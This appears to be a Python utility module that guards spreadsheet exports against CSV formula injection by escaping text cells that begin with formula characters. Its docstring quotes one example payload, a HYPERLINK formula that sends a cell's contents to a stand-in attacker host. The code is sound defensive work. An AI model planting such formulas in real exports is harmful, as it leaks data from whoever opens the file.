"""Text bound for a spreadsheet (CSV or XLSX export) must not run as a formula.

A cell that starts with =, +, -, @ (or a tab or carriage return, which some spreadsheets skip
before reading one of those) is taken as a formula by Excel, LibreOffice and Google Sheets:
an account named `=HYPERLINK("http://evil.example/?"&A1, "Open")` would leak data or run a
command on the reader's machine (OWASP "CSV injection"). Such text is written with a leading
apostrophe, which spreadsheets show as plain text. Numbers are never touched, so a negative
amount stays a number.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cell_text(value: Any) -> Any:
    """The value, with text that would start a formula made plain."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [cell_text(v) for v in row]


def workbook_make_safe(book: Any) -> None:
    """Every text cell of an openpyxl workbook (not write-only) made plain where it would be a
    formula; openpyxl stores a text starting with = as a formula."""
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith(FORMULA_STARTS):
                    cell.value = "'" + cell.value
